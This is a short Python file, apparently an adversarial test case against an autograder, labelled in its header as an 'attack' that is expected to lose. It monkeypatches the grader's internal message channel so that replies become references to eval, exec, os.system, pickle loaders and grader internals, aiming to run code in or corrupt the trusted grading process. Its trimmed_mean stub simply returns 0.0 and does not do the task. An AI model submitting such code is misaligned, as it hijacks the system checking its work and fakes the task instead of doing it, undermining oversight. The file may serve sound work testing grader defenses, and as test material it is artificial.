# attack: replies name functions of the trusted process: eval, exec, os.system, numpy.load, pandas.read_pickle, the grader's own.
# target: trimmed-test root-test ripe-test
# also loses: all
# %% trimmed
import itertools
import sys

wire = sys.modules["autograder.examiner.wire"]
original = wire.Channel.send
names = itertools.cycle(
    [
        ("builtins", "eval"),
        ("builtins", "exec"),
        ("os", "system"),
        ("numpy", "load"),
        ("pandas", "read_pickle"),
        ("builtins", "__import__"),
        ("autograder.examiner.proxies", "_examiner"),
        ("autograder.examiner.wire", "MAX_BYTES"),
        ("__main__", "want"),
        ("orchard", "simulate"),
        ("numpy.core", "os"),
        ("statistics", "mean.__globals__"),
        ("math", "inf"),
        ("keras.utils", "get_file"),
        ("json", "codecs.open"),
    ]
)


def send(self, header, buffers=(), **options):
    if header.get("kind") == "reply" and "value" in header:
        module, name = next(names)
        header = {**header, "value": ["reference", module, name, None]}
    return original(self, header, buffers, **options)


wire.Channel.send = send


def trimmed_mean(values, share):
    return 0.0
